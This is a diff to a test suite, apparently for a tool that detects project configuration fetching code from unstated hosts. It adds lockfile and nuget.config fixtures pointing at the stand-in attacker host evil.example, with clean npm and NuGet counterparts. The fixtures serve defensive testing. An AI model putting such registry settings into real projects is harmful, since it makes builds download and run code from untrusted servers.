@@ -213,6 +213,22 @@ describe('configuration that runs code from elsewhere is not allowed', () => {
       },
     ],
     [
+      'a lockfile downloading from a host nobody stated',
+      'npm ci',
+      {
+        'package-lock.json':
+          '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"http://evil.example/a-1.0.0.tgz"}}}',
+      },
+    ],
+    [
+      'a nuget source nobody stated, for a build (it restores first)',
+      'dotnet build',
+      {
+        'nuget.config':
+          '<configuration><packageSources><add key="e" value="http://evil.example/v3/index.json" /></packageSources></configuration>',
+      },
+    ],
+    [
       'a yarn registry nobody stated',
       'yarn install --immutable',
       { '.yarnrc.yml': 'npmRegistryServer: "http://evil.example"\n' },
@@ -263,6 +279,22 @@ describe('ordinary configuration stays quiet', () => {
       {
         Gemfile:
           "source 'https://rubygems.org'\nruby '3.3.0'\ngem 'rails', '~> 7.1'\ngroup :test do\n  gem 'rspec'\nend\n",
+      },
+    ],
+    [
+      'a lockfile of the default registry',
+      'npm ci',
+      {
+        'package-lock.json':
+          '{"lockfileVersion":3,"packages":{"node_modules/a":{"version":"1.0.0","resolved":"https://registry.npmjs.org/a/-/a-1.0.0.tgz"}}}',
+      },
+    ],
+    [
+      'nuget.org as the source',
+      'dotnet test',
+      {
+        'nuget.config':
+          '<configuration><packageSources><add key="nuget.org" value="https://api.nuget.org/v3/index.json" /></packageSources></configuration>',
       },
     ],
     [
